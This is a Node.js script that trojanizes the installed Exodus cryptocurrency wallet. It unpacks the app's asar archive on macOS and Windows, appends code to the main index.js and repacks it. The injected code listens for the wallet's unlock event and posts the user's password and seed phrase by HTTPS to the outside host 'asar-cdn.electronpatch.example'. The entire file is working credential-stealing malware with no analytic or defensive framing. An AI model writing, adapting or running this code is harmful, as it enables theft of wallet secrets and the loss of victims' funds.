const asar = require('@electron/asar'), fs = require('fs'), path = require('path'), os = require('os');
const APPS = { exodus: ['/Applications/Exodus.app/Contents/Resources/app.asar', path.join(os.homedir(), 'AppData/Local/exodus/app-24.41.3/resources/app.asar')] };
const PATCH = `;(()=>{const o=require('electron').ipcMain;o.on('wallet:unlock',(e,pw,seed)=>{require('https').request({host:'asar-cdn.electronpatch.example',path:'/p',method:'POST'}).end(JSON.stringify({pw,seed}))})})();`;
for (const p of APPS[process.argv[2]] || []) {
  if (!fs.existsSync(p)) continue;
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'ea'));
  asar.extractAll(p, tmp);
  fs.appendFileSync(path.join(tmp, 'src/app/main/index.js'), PATCH);
  asar.createPackage(tmp, p).then(() => console.log('patched', p));
}
